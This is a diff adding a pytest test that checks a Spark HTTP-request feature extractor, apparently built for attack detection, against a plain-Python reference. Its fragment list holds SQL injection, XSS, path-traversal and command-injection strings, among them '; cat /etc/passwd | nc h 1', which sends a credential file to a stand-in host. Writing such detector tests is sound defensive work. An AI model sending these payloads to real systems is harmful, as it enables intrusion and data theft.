@@ -1,8 +1,10 @@
+import random
 import re
 
 import pytest
 from pyspark.sql import functions as F
 
+from tests import plain_features
 from weir.functions import features, text
 from weir.functions import patterns as P
 
@@ -96,3 +98,25 @@ def test_nulls_and_missing_columns(spark):
 
 def test_long_body(spark):
     assert extract(spark, body="a" * 200_000)["payload_length"] == 200_000
+
+
+FRAGMENTS = [
+    "id=1", "name=joe", "&", "a=b", "' OR 'a'='a", "1 UNION SELECT user FROM t -- ", "<script>alert(1)</script>", "<img src=x onerror=confirm(1)>", "../../etc/passwd", "%2e%2e%2f", "..%5c", "; cat /etc/passwd | nc h 1", "$(whoami)", "`ls -la`",
+    "%3Cscript%3E", "&lt;svg&gt;", "&#60;img&#x3E;", "\\u003cscript\\u003e", '{"a": 1, "b" : ["x", "y"]}', ' {"k"\n:"v" , "" :""}', "%zz", "100%", "+", " ", "\t\n", "\u00e9\u4e2d", "\u2003", "0x41 \\x41", "%u1234", "QUJDREVGR0hJSktMTU5PUFFSU1RVVg==", "/a/b.php", ".env", "file.conf", "#frag", "style = x",
+    "javascript :", "innerHTML", "c:\\boot.ini", "%00", "%0d%0a", "powershell -enc abc", "reg  add", "plain words", "id", "ls", ";;", "&&", "||", ">>", "<>", "!=", ">=", "=", "==", "SELECTED", "select", "_select", "x select y", "rm", "(", ")", "$", "|",
+]
+
+
+def test_all_features_equal_plain_python(spark):
+    rng = random.Random(76)
+    glue = lambda n: "".join(rng.choice(FRAGMENTS) + rng.choice(["", "", " ", "&"]) for _ in range(rng.randrange(n)))
+    rows = [{"method": rng.choice(["GET", "post", "PUT", ""]), "path": rng.choice(["/", "", "/shop/1", "/x?y", "/" + glue(3)]), "query": rng.choice(["", glue(5)]), "body": rng.choice(["", "", glue(8)]), "user_agent": rng.choice(["", "Mozilla/5.0", "sqlmap/1.7"]),
+             "content_type": rng.choice(["", "application/x-www-form-urlencoded"]), "extra_headers": rng.choice([{}, {"authorization": "Bearer x", "X-Trace": "1", "Host": "h"}]), "status_code": rng.choice([0, 404])} for _ in range(400)]
+    rows += [{**rows[0], "query": x, "body": "", "path": "/"} for x in FRAGMENTS] + [{**rows[0], "query": "", "body": x, "path": x} for x in FRAGMENTS]
+    schema = "i int, method string, path string, query string, body string, user_agent string, content_type string, extra_headers map<string,string>, status_code int"
+    columns = ["method", "path", "query", "body", "user_agent", "content_type", "extra_headers", "status_code"]
+    d = spark.createDataFrame([(i, *[r[c] for c in columns]) for i, r in enumerate(rows)], schema)
+    for got in features.extract(d, ("i",)).collect():
+        expected = plain_features.features(**rows[got["i"]])
+        wrong = {n: (got[n], expected[n]) for n in features.NAMES if got[n] != pytest.approx(expected[n], abs=1e-9)}
+        assert not wrong, (rows[got["i"]], wrong)
